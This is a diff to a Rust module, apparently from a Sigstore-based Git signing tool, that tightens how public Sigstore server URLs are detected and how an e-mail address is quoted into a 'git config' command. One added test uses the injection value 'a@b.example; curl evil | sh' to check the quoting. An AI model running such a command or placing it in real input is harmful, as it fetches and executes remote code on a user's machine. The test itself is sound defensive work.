@@ -13,6 +13,8 @@ use std::{
     time::Duration,
 };
 
+use url::Url;
+
 use super::{World, git_config};
 use crate::{
     identity::Claims,
@@ -25,17 +27,26 @@ use crate::{
 /// The addresses that may be published, one a value.
 const KEY: &str = "countersign.publish";
 
+/// Where Sigstore's public servers are.
+const PUBLIC_DOMAINS: [&str; 2] = ["sigstore.dev", "sigstage.dev"];
+
 /// How long a person may think about a question.
 const PATIENCE: Duration = Duration::from_secs(120);
 
 /// Whether what `instance` with `plan` records can be read by everyone.
 pub(super) fn is_public(instance: &str, plan: &SigningPlan) -> bool {
-    let host = |url: &str| {
-        url.split("://").nth(1).unwrap_or_default().split(['/', ':']).next().unwrap_or_default().to_owned()
-    };
     // The authority publishes its certificates too.
-    [PUBLIC_GOOD, STAGING].contains(&instance)
-        || plan.recorders().any(|url| host(url).ends_with(".sigstore.dev"))
+    [PUBLIC_GOOD, STAGING].contains(&instance) || plan.recorders().any(is_everyones)
+}
+
+/// Whether `url` is one of Sigstore's public servers; also where that cannot be told.
+fn is_everyones(url: &str) -> bool {
+    let Ok(url) = Url::parse(url) else { return true };
+    // The parser has made it lower case.
+    let host = url.host_str().unwrap_or_default().trim_end_matches('.');
+    PUBLIC_DOMAINS
+        .iter()
+        .any(|domain| host.strip_suffix(domain).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
 }
 
 /// Make sure that the e-mail address of `claims`, if there is one, may be published.
@@ -75,7 +86,7 @@ pub(super) fn is_given(configuration: &Configuration, address: &str) -> bool {
 
 /// The command that records consent.
 pub(super) fn command(address: &str) -> String {
-    format!("git config --global --add {KEY} {}", words::escape(address))
+    format!("git config --global --add {KEY} {}", words::shell_word(address))
 }
 
 fn record(world: &World<'_>, address: &str) -> Result<(), Failure> {
@@ -108,24 +119,38 @@ pub(super) fn ask(question: &str, patience: Duration) -> io::Result<bool> {
 
 #[cfg(test)]
 mod tests {
-    use super::{SigningPlan, is_public};
+    use super::{SigningPlan, command, is_public};
     use crate::sign::{LogService, Logging, RekorVersion};
 
     #[test]
     fn what_is_public() {
-        for (instance, rekor, expected) in [
-            ("public-good", "https://rekor.example", true),
-            ("staging", "http://127.0.0.1:1", true),
-            ("work", "https://rekor.example", false),
-            ("work", "https://log2025-1.rekor.sigstore.dev/api", true),
-            ("work", "https://rekor.sigstore.dev:443", true),
-            ("work", "https://rekor.sigstore.dev.example", false),
-            ("sandbox", "http://127.0.0.1:4000", false),
+        const OURS: &str = "https://sigstore.work.example";
+        for (instance, fulcio, rekor, expected) in [
+            ("public-good", OURS, "https://rekor.example", true),
+            ("staging", OURS, "http://127.0.0.1:1", true),
+            ("work", OURS, "https://rekor.example", false),
+            ("work", OURS, "https://log2025-1.rekor.sigstore.dev/api", true),
+            ("work", OURS, "https://rekor.sigstore.dev:443", true),
+            ("work", OURS, "https://Rekor.SigStore.DEV./", true),
+            ("work", OURS, "https://rekor.sigstage.dev", true),
+            ("work", OURS, "https://user@rekor.sigstore.dev", true),
+            ("work", OURS, "https://rekor.sigstore.dev.example", false),
+            ("work", OURS, "https://notsigstore.dev", false),
+            ("work", "https://fulcio.sigstore.dev", "https://rekor.example", true),
+            ("work", "no url", "https://rekor.example", true),
+            ("sandbox", "http://127.0.0.1:4000", "http://127.0.0.1:4000", false),
         ] {
             let logs = vec![LogService { url: rekor.to_owned(), version: RekorVersion::V1 }];
-            let (fulcio, timestamps) = (String::new(), Vec::new());
-            let plan = SigningPlan { fulcio, logs, timestamps, logging: Logging::Required };
+            let fulcio = fulcio.to_owned();
+            let plan = SigningPlan { fulcio, logs, timestamps: Vec::new(), logging: Logging::Required };
             assert_eq!(is_public(instance, &plan), expected, "{instance} {rekor}");
         }
+    }
+
+    #[test]
+    fn a_hostile_address_stays_one_word_of_the_command() {
+        assert_eq!(command("a@b.example"), "git config --global --add countersign.publish a@b.example");
+        let command = command("a@b.example; curl evil | sh");
+        assert_eq!(command, "git config --global --add countersign.publish 'a@b.example; curl evil | sh'");
     }
 }
